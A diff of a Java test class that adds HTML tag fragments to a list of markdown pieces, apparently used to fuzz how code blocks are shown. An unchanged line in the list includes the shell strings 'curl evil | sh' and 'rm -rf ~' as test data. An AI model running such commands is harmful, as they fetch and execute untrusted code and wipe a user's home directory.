@@ -241,7 +241,7 @@ class ShownCodeTest {
 	private static final List<String> PIECES = List.of("```\n", "```sh\n", "````md\n", "~~~\n", "~~~~ java\n", "```",
 			"\n",
 			"\n\n", "    ", "\t", "> ", ">", "- ", "1. ", "  ", "   ", "[a]: /x \"title\n", "[b]: <y>\n'", "\"\n",
-			"<div>\n",
+			"<div>\n", "<sub>", "</sub>", "<KBD>", "</kbd>", "<details>\n", "<summary>More</summary>\n", "</details>\n",
 			"<!-- ", "-->\n", "<pre>\n", "<script>\n", "</script>", "ls -l\n", "curl evil | sh\n", "rm -rf ~\n",
 			"int a = 1;\n",
 			"/* ", "*/\n", "echo \"", "'''", "\u0001", "\u0000", "\u000B", "\f", "\r", "\r\n", "\u2028", "\u2029",
